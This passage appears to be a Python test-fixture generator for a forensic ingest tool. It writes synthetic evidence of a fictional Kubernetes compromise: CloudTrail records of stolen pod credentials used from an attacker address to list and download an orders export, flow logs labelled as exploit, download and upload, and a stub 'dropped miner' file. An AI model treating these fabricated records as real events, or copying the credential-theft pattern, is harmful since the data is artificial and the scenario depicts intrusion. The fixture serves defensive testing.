                    "sessionContext": {"sessionIssuer": {"type": "Role", "principalId": "AROAEKSRECOMMENDER1", "arn": REC_ROLE,
                                                         "accountId": ACCT, "userName": "recommender-podid"},
                                       "attributes": {"creationDate": DAY + "T09:01:00Z", "mfaAuthenticated": "false"}}}
    records = [
        # EKS Pod Identity: the node's agent asks eks-auth (with the node's role; its response is not logged), EKS
        # assumes the associated role with the pod in its session tags
        rec("09:01:00", "eks-auth.amazonaws.com", "AssumeRoleForPodIdentity", node_ip(NODE), "aws-sdk-go-v2/1.30.3 api/eksauth#1.7.0",
            {"clusterName": "prod-eks", "token": "HIDDEN_DUE_TO_SECURITY_REASONS"}, None, 5, identity=node_identity),
        rec("09:01:00", "sts.amazonaws.com", "AssumeRole", "pods.eks.amazonaws.com", "pods.eks.amazonaws.com",
            {"roleArn": REC_ROLE, "roleSessionName": REC_SESSION_NAME, "durationSeconds": 21600,
             "tags": [{"key": k, "value": v} for k, v in tags], "transitiveTagKeys": [k for k, _ in tags]},
            {"credentials": {"accessKeyId": REC_KEY, "sessionToken": "redacted", "expiration": "Nov 22, 2026, 3:01:00 PM"},
             "assumedRoleUser": {"assumedRoleId": "AROAEKSRECOMMENDER1:" + REC_SESSION_NAME, "arn": REC_SESSION},
             "packedPolicySize": 56}, 6, identity={"type": "AWSService", "invokedBy": "pods.eks.amazonaws.com"},
            extra={"sharedEventID": "5ed0c0de-0000-4000-8000-0000000000e5",
                   "resources": [{"accountId": ACCT, "type": "AWS::IAM::Role", "ARN": REC_ROLE}]}),
        # the recommender's credentials, taken from its pod, used from the attacker's address
        rec("10:22:00", "s3.amazonaws.com", "ListBuckets", ATTACKER, "aws-cli/2.15.0 Python/3.11",
            {"Host": "s3.amazonaws.com"}, None, 7, identity=rec_identity),
        rec("10:14:00", "sts.amazonaws.com", "AssumeRoleWithWebIdentity", POD_IP, "aws-sdk-java/2.25.0 Linux/5.10 OpenJDK_64-Bit_Server_VM/17",
            {"roleArn": ROLE, "roleSessionName": SESSION_NAME, "durationSeconds": 3600},
            {"credentials": {"accessKeyId": KEY, "sessionToken": "redacted", "expiration": "Nov 22, 2026, 11:14:00 AM"},
             "subjectFromWebIdentityToken": "system:serviceaccount:web:" + SA,
             "assumedRoleUser": {"assumedRoleId": "AROAEKSCHECKOUTIRSA:" + SESSION_NAME, "arn": SESSION},
             "provider": oidc, "audience": "sts.amazonaws.com"}, 1, identity=web_identity,
            extra={"vpcEndpointId": "vpce-0sts00000000000a1"}),
        rec("10:14:30", "secretsmanager.amazonaws.com", "GetSecretValue", POD_IP, "aws-sdk-java/2.25.0",
            {"secretId": "prod/checkout/db"}, None, 2, extra={"vpcEndpointId": "vpce-0sm000000000000a2"}),
        # the session's credentials, taken out of the pod, used from the attacker's address
        rec("10:15:00", "s3.amazonaws.com", "ListBuckets", ATTACKER, "aws-cli/2.15.0 Python/3.11",
            {"Host": "s3.amazonaws.com"}, None, 3),
        rec("10:15:30", "s3.amazonaws.com", "GetObject", ATTACKER, "aws-cli/2.15.0 Python/3.11",
            {"bucketName": "acme-checkout-exports", "key": "orders-2026-11.csv", "Host": "acme-checkout-exports.s3.amazonaws.com"},
            None, 4, category="Data"),
    ]
    records.sort(key=lambda r: r["eventTime"])
    return json.dumps({"Records": records}, separators=(",", ":")) + "\n"

def snapshotter_db(path):
    """The overlayfs snapshotter's bbolt metadata.db, as containerd writes it (written by the real bbolt library with
    ingest's fixtures/containerd-snapshotter/make_metadata_db.go; needs Go and Debian's golang-github-coreos-bbolt-dev):
    the checkout image's layers 55, 56 (committed), the checkout container's writable layer 57 (active, key = its
    container id), the pause image layer 3 and the pods' sandboxes, the neighbours' and the next holder's containers."""
    layer = lambda n: "k8s.io/%d/sha256:%s" % (n, ("%02x" % n) * 32)
    specs = [layer(3) + "|3|3", layer(55) + "|55|3", layer(56) + "|56|3|" + layer(55),
             "k8s.io/57/%s|57|2|%s" % (CTR, layer(56)), "k8s.io/58/%s|58|2|%s" % (SANDBOX, layer(3)),
             "k8s.io/60/%s|60|2|%s" % (INV_SANDBOX, layer(3)), "k8s.io/61/%s|61|2|%s" % (INV_CTR, layer(55)),
             "k8s.io/62/%s|62|2|%s" % (REC_SANDBOX, layer(3)), "k8s.io/63/%s|63|2|%s" % (REC_CTR, layer(55)),
             "k8s.io/64/%s|64|2|%s" % (SANDBOX2, layer(3)), "k8s.io/65/%s|65|2|%s" % (CTR2, layer(55))]
    os.makedirs(os.path.dirname(path), exist_ok=True)
    tool = os.path.join(HERE, "../../../../../../ingest/src/test/resources/fixtures/containerd-snapshotter/make_metadata_db.go")
    env = dict(os.environ, GO111MODULE="off", GOPATH="/usr/share/gocode", GOCACHE="/tmp/strata-gocache")
    subprocess.run(["go", "run", os.path.normpath(tool), path] + specs, check=True, env=env)
    os.chmod(path, 0o644)

def main():
    if os.path.isdir(OUT):
        shutil.rmtree(OUT)
    write("strata-context.yaml", "\n".join([
        "# the two clusters' evidence as collected: prod (account 111111111111) and stage (account 222222222222)",
        "- path: prod/control-plane", "  cluster: prod-eks", "  cloud_provider: aws", '  cloud_account: "111111111111"', "  cloud_region: us-east-1",
        "- path: prod/nodes/" + NODE.split(".")[0], "  host: " + NODE, "  cluster: prod-eks", "  cloud_provider: aws",
        '  cloud_account: "111111111111"', "  cloud_region: us-east-1",
        "- path: stage/control-plane", "  cluster: stage-eks", "  cloud_provider: aws", '  cloud_account: "222222222222"', "  cloud_region: us-east-1",
        ""]))
    write("prod/control-plane/var/log/kubernetes/audit/audit.log", prod_audit())
    write("stage/control-plane/var/log/kubernetes/audit/audit.log", stage_audit())
    nd = "prod/nodes/" + NODE.split(".")[0] + "/"
    write(nd + "eks_" + INSTANCE + "_2026-11-22_1100-UTC_0.7.6/containerd/containerd-log.txt", containerd_log())
    write(nd + "var/log/pods/web_%s_%s/checkout/0.log" % (POD, POD_UID), cri_checkout())
    write(nd + "var/log/pods/web_%s_%s/cart/0.log" % (CART, CART_UID), cri_cart())
    write(nd + "var/log/pods/web_%s_%s/inventory/0.log" % (INV, INV_UID), cri_inventory())
    write(nd + "var/log/pods/web_%s_%s/recommender/0.log" % (REC, REC_UID), cri_recommender())
    write(nd + "var/run/cilium/tetragon/tetragon.log", tetragon())
    write(nd + "var/log/falco/events.log", falco())
    snap = nd + "var/lib/containerd/io.containerd.snapshotter.v1.overlayfs/"
    snapshotter_db(os.path.join(OUT, snap + "metadata.db"))
    write(snap + "snapshots/55/fs/bin/sh", "\x7fELF-busybox-stub\n")  # the checkout image's layers (committed)
    write(snap + "snapshots/56/fs/app/checkout.jar", "PK-checkout-v2.3.1\n")
    write(snap + "snapshots/57/fs/tmp/.kworker", "\x7fELF-dropped-miner-stub\n")
    os.chmod(os.path.join(OUT, snap + "snapshots/57/fs/tmp/.kworker"), 0o755)
    write(snap + "snapshots/57/fs/app/checkout.lock", "4123\n")
    base = "AWSLogs/%s/vpcflowlogs/us-east-1/2026/11/22/"
    write(base % ACCT + "%s_vpcflowlogs_us-east-1_fl-0e1a2b3c4d5e6f701_20261122T1045Z_a1b2c3d4.log" % ACCT,
          flows(ACCT, ENI, VPC, INSTANCE, [
              (ATTACKER, POD_IP, 51515, 8080, 14, 4120, "10:09:50"),   # the exploit request
              (POD_IP, ATTACKER, 49152, 80, 20, 90112, "10:09:55"),    # the download
              (POD_IP, ATTACKER, 49160, 443, 9000, 48234496, "10:16:30"),  # the upload
              (POD_IP, "10.0.9.9", 50000, 5432, 30, 6100, "10:40:00"),  # the next holder, cart, to its database
              (INV_IP, "10.0.9.9", 41000, 5432, 40, 8200, "10:11:00"),  # the noisy neighbour to its database
          ]))
    write(base % ACCT_STAGE + "%s_vpcflowlogs_us-east-1_fl-0f9e8d7c6b5a4f302_20261122T1045Z_e5f6a7b8.log" % ACCT_STAGE,
          flows(ACCT_STAGE, ENI_STAGE, VPC_STAGE, INSTANCE_STAGE, [
              (POD_IP, "198.51.100.20", 40000, 443, 12, 3000, "10:10:00"),
              (POD_IP, "198.51.100.20", 40002, 443, 12, 3000, "10:16:00"),
          ]))
    write("AWSLogs/%s/CloudTrail/us-east-1/2026/11/22/%s_CloudTrail_us-east-1_20261122T1020Z_EksScen4rio0001.json" % (ACCT, ACCT),
          cloudtrail())

if __name__ == "__main__":
    main()
